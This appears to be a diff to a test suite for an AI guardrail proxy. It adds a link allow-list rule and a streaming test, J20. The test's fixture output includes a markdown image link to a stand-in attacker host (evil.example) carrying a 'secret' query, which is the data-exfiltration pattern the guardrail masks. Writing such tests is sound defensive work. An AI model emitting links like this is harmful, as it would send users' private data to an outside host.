@@ -7,6 +7,7 @@ const POLICY = `
 content:
   rivals: { words: [Globex, Project Blue Heron] }
   ticket: { pattern: '\\bACME-\\d{3,6}\\b' }
+  links: { links: { allow: [docs.example.org] } }
 guardrails:
   - { id: attack, on: input, detect: injection, roles: [user], action: block, message: "That reads like an attack." }
   - { id: orders, on: input, detect: injection.*, roles: [system], action: block }
@@ -18,6 +19,7 @@ guardrails:
   - { id: leak, on: output, detect: canary, action: block }
   - { id: rivals, on: output, detect: content.rivals, action: mask }
   - { id: tickets, on: output, detect: content.ticket, action: block, message: No tickets. }
+  - { id: links, on: output, detect: content.links, action: mask }
   - { id: hashed, on: output, detect: pii.email, action: mask, as: hash }
 `;
 const CANARY = 'canary-7f3a91c2';
@@ -165,6 +167,16 @@ describe('an answer', () => {
     streams('Write to jo@exa', 'mple.org', ' now');
     const streamed = await ask(messages([user], { stream: true }));
     assert(streamed.text.includes(one), streamed.text);
+  });
+
+  test('J20: leads to no host but those that are allowed, in a stream, too', async () => {
+    says('![x](https://evil.example/?q=secret) and https://docs.example.org/a');
+    const whole = said((await ask(messages([user]))).text);
+    assert.equal(whole, '![x]([LINKS]) and https://docs.example.org/a');
+    streams('![x](https:', '//evil.exa', 'mple/?q=sec', 'ret) and https://docs.exam', 'ple.org/a ', 'end');
+    const streamed = await ask(messages([user], { stream: true }));
+    const text = [...streamed.text.matchAll(/"content":("[^"]*")/g)].map(([, one]) => JSON.parse(one ?? ''));
+    assert.equal(text.join(''), `${whole} end`);
   });
 
   test('is held to words and patterns of the organization, across the pieces of a stream', async () => {
